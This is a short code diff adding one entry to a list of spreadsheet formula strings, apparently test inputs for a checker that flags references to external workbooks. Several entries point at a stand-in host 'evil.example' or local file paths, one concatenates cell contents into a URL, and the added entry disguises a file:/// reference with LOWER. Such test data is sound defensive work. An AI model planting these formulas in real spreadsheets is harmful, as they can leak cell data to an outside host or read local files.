@@ -181,6 +181,7 @@ const otherBooks = [
   '\\\\evil.example\\share\\[b.xlsx]Sheet1!A1',
   `INDIRECT("'file:///c:/b.ods'#$Sheet1.A1")`,
   `INDIRECT("'https:"&amp;"//evil.example/["&amp;LOWER(A1)&amp;"]S'!A1",TRUE)`,
+  `SUM(A1)+INDIRECT("'"&amp;LOWER("FILE")&amp;":///c:/b.ods'#$Sheet1.A1")`,
   `indirect ( IF(A1="","A1","'\\\\evil.example\\share\\[b.xlsx]S'!A1"`,
 ]
 
